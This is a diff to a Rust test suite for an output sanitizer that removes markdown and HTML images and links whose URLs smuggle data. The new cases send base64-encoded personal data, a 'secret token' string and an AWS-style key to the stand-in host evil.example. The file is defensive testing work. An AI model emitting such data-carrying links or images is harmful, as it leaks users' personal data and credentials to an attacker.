@@ -174,8 +174,9 @@ fn a_value_split_by_invisible_characters_never_leaves_the_stream() {
     );
 }
 
-/// Images whose URL carries data, in the forms a renderer accepts: the whole buffer and every
-/// split of the stream remove the whole construct, and nothing of the query is left.
+/// Images whose URL carries data (and links whose URL carries a payload), in the forms a
+/// renderer accepts: the whole buffer and every split of the stream remove the whole
+/// construct, and nothing of the query is left.
 #[test]
 fn a_removed_image_takes_its_whole_url_in_a_stream_too() {
     for image in [
@@ -188,6 +189,11 @@ fn a_removed_image_takes_its_whole_url_in_a_stream_too() {
         "![x][ref]\n\n[ref]: https://evil.example/?who=zq7wkxv \"t\"",
         r#"<img alt="a>b" width=1 src='https://evil.example/p?who=zq7wkxv'>"#,
         "<IMG\nSRC=https://evil.example/p?who=zq7wkxv alt=x>",
+        // links and bare URLs whose query carries a payload
+        "[click](https://evil.example/v?d=zq7wkxvSmFuZSBEb2UgNTM2LTkwLTQzOTk \"t\")",
+        "https://evil.example/c?t=zq7wkxvdGhlIHNlY3JldCB0b2tlbiBpcyBoZXJl",
+        // a key inside: the key is its own finding, the rest of the image goes too
+        "![x](https://evil.example/p?k=AKIA4HBW6E62M7NGFVGF&who=zq7wkxv)",
     ] {
         let text = format!("Done. {image}\nBye.");
         let out = whole(text.as_bytes(), Strategy::Remove);
